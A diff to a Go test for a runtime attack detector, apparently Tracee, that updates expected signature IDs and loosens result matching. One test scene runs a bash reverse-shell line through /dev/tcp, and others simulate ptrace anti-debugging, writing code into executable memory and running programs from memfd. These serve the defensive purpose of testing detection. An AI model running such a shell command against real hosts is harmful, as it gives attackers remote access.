@@ -8,6 +8,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -22,7 +23,7 @@ type finding struct {
 	}
 }
 
-// scene is something that a process does, and the findings that it gives, as "<id> <event> <data>".
+// scene is something that a process does, and the findings that it gives, as "<id> <event> <data>" or the id alone.
 type scene struct {
 	name string
 	play func(t *testing.T) (pid int)
@@ -42,13 +43,13 @@ func scenes(address string) []scene {
 				t.Skip("bash opens sockets by the name of a file; it is not here")
 			}
 			return execute(t, exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+host+"/"+port+" 0<&3"))
-		}, []string{"TRC-1 dup2 " + onSocket}},
+		}, []string{"TRC-2310", "TRC-1 dup2 " + onSocket, "TRC-2301"}},
 		{"a connection", acted("connect", address), nil},
 
 		{"anti-debugging", acted("ptrace"), []string{"TRC-2 ptrace map[]"}},
 
-		{"code written into executable memory", acted("write-code"), []string{"TRC-4 mem_prot_alert map[]"}},
-		{"code written and then made executable", acted("map-code"), nil},
+		{"code written into executable memory", acted("write-code"), []string{"TRC-2401", "TRC-4 mem_prot_alert map[]"}},
+		{"code written and then made executable", acted("map-code"), []string{"TRC-2402"}},
 
 		{"a program in a memfd", func(t *testing.T) int {
 			command := exec.Command("/proc/self/fd/3")
@@ -110,7 +111,9 @@ func TestTraceeFindsWhatAttacksDoAndNothingElse(t *testing.T) {
 		found[pid] = append(found[pid], fmt.Sprint(f.Signature.ID, " ", f.Event.EventName, " ", f.Data))
 	}
 	for pid, s := range played {
-		if !slices.Equal(found[pid], s.want) {
+		if !slices.EqualFunc(found[pid], s.want, func(got, want string) bool {
+			return got == want || strings.HasPrefix(got, want+" ")
+		}) {
 			t.Errorf("%s: got %q, want %q", s.name, found[pid], s.want)
 		}
 	}
